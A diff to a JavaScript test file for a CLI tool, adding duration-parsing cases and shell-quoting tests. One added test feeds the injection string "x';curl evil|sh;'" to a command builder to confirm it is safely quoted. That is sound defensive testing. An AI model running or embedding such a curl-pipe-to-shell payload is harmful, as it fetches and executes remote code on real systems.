@@ -54,6 +54,8 @@ t.test('an address bears a search, and gives it back', async (t) => {
 t.test('a window is durations before now, or moments', async (t) => {
   t.equal(durationMs('15m'), 900_000)
   t.equal(durationMs('an hour'), null)
+  t.equal(durationMs('2w'), 1_209_600_000)
+  t.equal(durationMs('250ms'), 250)
   const now = new Date('2026-11-21T12:00:00Z')
   const hour = boundsOf({ since: '1h', until: '' }, now)
   t.strictSame([hour.from, hour.to], [new Date('2026-11-21T11:00:00Z'), now])
@@ -65,12 +67,19 @@ t.test('lines to copy are safe in a shell, and bear no token', async (t) => {
   t.equal(shellWord('left-pad'), 'left-pad')
   t.equal(shellWord("it's $HOME"), String.raw`'it'\''s $HOME'`)
   t.equal(
-    cliOf('logs', [
-      ['--tenant', 'acme'],
-      ['--path', '/npm/a b'],
-      ['--until', ''],
-    ]),
+    cliOf(
+      ['logs'],
+      [
+        ['--tenant', 'acme'],
+        ['--path', '/npm/a b'],
+        ['--until', ''],
+      ],
+    ),
     "waybill logs --tenant acme --path '/npm/a b'",
+  )
+  t.equal(
+    cliOf(['keys', 'show', "x';curl evil|sh;'"]),
+    String.raw`waybill keys show 'x'\'';curl evil|sh;'\'''`,
   )
   const line = curlOf('http://127.0.0.1:8090', { path: '/api/entries?since=1h&limit=2' })
   t.equal(
